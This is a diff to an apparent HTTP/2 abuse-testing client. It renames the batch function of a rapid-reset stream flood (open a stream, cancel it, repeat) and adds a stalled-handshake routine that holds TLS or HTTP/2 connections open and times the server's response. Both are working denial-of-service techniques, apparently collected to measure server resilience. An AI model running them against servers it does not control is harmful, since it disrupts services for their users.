@@ -407,13 +407,13 @@ class H2AbuseClient:
         headers = grpc_request_headers(self.authority, path)
         report = FloodReport("rapid_reset", seconds)
         if not fast:
-            def one_batch() -> None:
+            def h2_batch() -> None:
                 for _ in range(batch):
                     sid = self._conn.get_next_available_stream_id()
                     self._conn.send_headers(sid, headers, end_stream=False)
                     self._conn.reset_stream(sid, h2.errors.ErrorCodes.CANCEL)
                     report.sent += 1
-            return await self._flood(report, one_batch, linger)
+            return await self._flood(report, h2_batch, linger)
 
         self._go_raw()
         # The first block adds the headers to the HPACK dynamic table; once they are all there, every later
@@ -594,6 +594,29 @@ class IdleSnapshot:
     ended: dict[str, int]
     goaways: list[GoAway]
     closed: int
+
+
+async def stalled_handshake(host: str, port: int, tls: ClientTls | None, timeout: float) -> float | None:
+    """Connect and stall: with ``tls`` None, never send a TLS ClientHello; with ``tls``, complete TLS but never
+    send the HTTP/2 preface. Returns the seconds until the server closed the connection, or None if it was still
+    open after ``timeout``."""
+    t0 = time.monotonic()
+    ctx = None if tls is None else tls.ssl_context()
+    reader, writer = await asyncio.open_connection(host, port, ssl=ctx,
+                                                   server_hostname=None if tls is None else tls.server_name)
+    try:
+        async with asyncio.timeout(timeout):
+            while await reader.read(_READ_CHUNK):
+                pass
+        return time.monotonic() - t0
+    except (ConnectionError, OSError, ssl.SSLError):
+        return time.monotonic() - t0
+    except TimeoutError:
+        return None
+    finally:
+        writer.close()
+        with contextlib.suppress(ConnectionError, OSError, ssl.SSLError, TimeoutError):
+            await asyncio.wait_for(writer.wait_closed(), 2.0)
 
 
 async def flood(host: str, port: int, tls: ClientTls, kind: str, seconds: float,
